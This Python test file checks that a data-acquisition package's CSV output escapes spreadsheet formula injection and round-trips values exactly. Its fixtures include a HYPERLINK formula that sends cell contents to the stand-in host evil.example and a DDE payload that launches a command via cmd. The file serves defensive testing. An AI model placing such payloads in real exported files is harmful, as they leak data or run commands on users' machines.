"""No cell of a CSV file is a formula to a spreadsheet; and each reads back as exactly what it was."""

import asyncio
import csv
import io
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dtolbus.records import DaqBlock, ErrorInfo, RunInfo
from dtolbus_workers.certificate import Line, compare
from dtolbus_workers.columns import SAMPLE_COLUMNS
from dtolbus_workers.specimens import float_block, make_batch, make_block, make_event, make_reading, make_run
from dtolbus_workers.text import CsvSink
from dtolbus_workers.text_destination import CsvDestination
from dtolbus_workers.text_format import CsvFormat

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"open")'
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
TEXTS = (
    FORMULA,
    *(f"{begin}1+1" for begin in BEGINNINGS),
    "'",
    "''",
    "'=1",
    "''=1",
    "it's",
    "-5",
    "+1e3",
    "-inf",
    "'5",
)

beginnings = st.sampled_from((*BEGINNINGS, "'", '"', ",", "", "-5", "nan", "true", " "))
texts = st.builds(lambda begin, rest: begin + rest, beginnings, st.text(st.characters(exclude_categories=["Cs"])))
values = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), texts)


def cells(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content, newline="")))


@given(rows=st.lists(st.lists(values, min_size=3, max_size=3), max_size=5), columns=st.permutations(["a", *TEXTS[:2]]))
def test_every_value_comes_back_and_no_text_is_a_formula(rows: list[list[Any]], columns: list[str]) -> None:
    form = CsvFormat()
    data = form.header(columns) + b"".join(form.row(dict(zip(columns, row, strict=True))) for row in rows)
    read = [list(row.values()) for row in form.parse(data.splitlines(keepends=True))]
    assert [[(type(cell), cell) for cell in row] for row in read] == [[(type(c), c) for c in row] for row in rows]
    for row, shown in zip([columns, *rows], cells(data.decode()), strict=True):
        for value, cell in zip(row, shown, strict=True):
            if isinstance(value, str):
                assert not cell.startswith(BEGINNINGS)
            elif isinstance(value, int | float) and not isinstance(value, bool):
                assert not cell.startswith("'")


@pytest.mark.parametrize("text", TEXTS)
def test_apostrophes_stay_unambiguous(text: str) -> None:
    form = CsvFormat()
    (row,) = form.parse([b"a\n", *form.row({"a": text}).splitlines(keepends=True)])
    assert row == {"a": text}


def odd_run(kind: Any) -> RunInfo:
    run = make_run(kind, channels=(*BEGINNINGS, FORMULA, "'quoted", "plain"))
    channels = tuple(msgspec.structs.replace(channel, unit=f"={channel.name}") for channel in run.channels)
    return msgspec.structs.replace(
        run, device="=cmd|' /C calc'!A0", task="@SUM(1)", channels=channels, meta={"operator": FORMULA}
    )


@pytest.mark.parametrize("kind", ["blocks", "readings"])
@pytest.mark.parametrize("mode", ["samples", "summary"])
def test_a_folder_holds_no_formula_and_verify_finds_every_value_equal(kind: Any, mode: Any, tmp_path: Path) -> None:
    run = odd_run(kind)
    fault = ErrorInfo("=1+1", "@gone")
    if kind == "blocks":
        records = [make_block(run, 0), failed(run, 1, fault), make_event(run, 2, kind="=kind", message=FORMULA)]
    else:
        odd = {name: "-text" if place % 2 else -1.5 for place, name in enumerate(run.channel_names)}
        records = [make_reading(run, 0), make_reading(run, 1, odd), make_reading(run, 2, {}, error=fault)]

    async def stored() -> None:
        destination = CsvDestination(tmp_path, blocks=mode)
        await destination.open()
        await destination.commit(make_batch(run, 0, records))
        await destination.close()

    asyncio.run(stored())
    for path in tmp_path.glob("*/*/*.csv"):
        for row in cells(path.read_text()):
            for cell in row:
                assert not cell.startswith(BEGINNINGS) or is_number(cell), cell
    found = CsvDestination.stored(str(tmp_path), {}, run)
    assert found is not None
    line = Line("csv", "stream", run.run_id, "ended", len(records))
    compare(line, iter(records), found, "csv")
    assert line.complete, line


def failed(run: RunInfo, index: int, fault: ErrorInfo) -> DaqBlock:
    return float_block(run, index, [[0.0] * 2 for _ in run.channels], error=fault, first_sample_index=10)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_stand_alone_sink_goes_on_with_its_own_odd_columns(tmp_path: Path) -> None:
    run = make_run("readings", channels=("-5V", "=x", "'y"))

    async def written(index: int) -> None:
        async with CsvSink(tmp_path / "lab.csv") as sink:
            await sink.write_many([make_reading(run, index)])

    asyncio.run(written(0))
    asyncio.run(written(1))
    header, *rows = cells((tmp_path / "lab.csv").read_text())
    assert [name for name in header if "'" in name] == [f"'{n}{u}" for u in ("", "_unit") for n in run.channel_names]
    assert len(rows) == 2
    assert SAMPLE_COLUMNS[1] == header[0]
